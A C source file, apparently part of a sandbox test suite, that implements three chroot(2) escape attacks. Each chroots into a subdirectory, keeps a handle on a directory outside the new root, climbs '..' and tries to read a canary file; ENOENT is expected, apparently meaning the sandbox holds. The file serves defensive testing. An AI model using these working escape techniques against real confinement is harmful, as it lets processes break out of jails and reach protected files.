/* chroot.c - attackers that are root inside and may call chroot(2): for `user root` with
 * `capabilities sys_chroot`. Outside they have as much in a user namespace of their own.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/util.h"
#include "escape/attack.h"

#define DEPTH_MAX 64 /* more than any path here is deep */

/* Into an empty jail in the working directory, as somebody would who wants to confine it. */
static int enter_jail(void)
{
	if (mkdir("jail", 0700) < 0 && errno != EEXIST)
		return -errno;
	return chdir("jail") < 0 || chroot(".") < 0 ? -errno : 0;
}

/* The working directory is above the root here: nothing stops it until the real one. */
static int climb(void)
{
	char text[64];

	for (int i = 0; i < DEPTH_MAX; i++)
		if (chdir("..") < 0)
			return -errno;
	if (chroot(".") < 0)
		return -errno;
	return read_text(victim("home-canary"), text, sizeof(text));
}

/* With the old root's directory in hand. */
static int leave_by_descriptor(void)
{
	int r = enter_jail();
	int fd = r < 0 ? -1 : open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (r < 0 || fd < 0)
		return r < 0 ? r : -errno;
	if ((mkdir("/deeper", 0700) < 0 && errno != EEXIST) || chroot("/deeper") < 0 ||
	    fchdir(fd) < 0)
		return -errno;
	return climb();
}

/* A second chroot leaves the working directory where it is. */
static int leave_by_working_directory(void)
{
	int r = enter_jail();

	if (r < 0)
		return r;
	if ((mkdir("deeper", 0700) < 0 && errno != EEXIST) || chroot("deeper") < 0)
		return -errno;
	return climb();
}

/* The same without a jail of its own: the sandbox's root is the one to leave. */
static int leave_the_root(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0)
		return -errno;
	if ((mkdir("deeper", 0700) < 0 && errno != EEXIST) || chroot("deeper") < 0 ||
	    fchdir(fd) < 0)
		return -errno;
	return climb();
}

static const struct attack attacks[] = {
	{"leave two chroots by a descriptor",
	 "chroot(2): it does not change the "
	 "working directory",
	 leave_by_descriptor, "ENOENT", NULL},
	{"leave two chroots by the working directory", "chroot(2), likewise",
	 leave_by_working_directory, "ENOENT", NULL},
	{"leave the root by a chroot", "a root that is one by chroot(2) is left so",
	 leave_the_root, "ENOENT", NULL},
};

const struct attack_table attack_chroot = {"chroot", attacks, ARRAY_SIZE(attacks), 1};
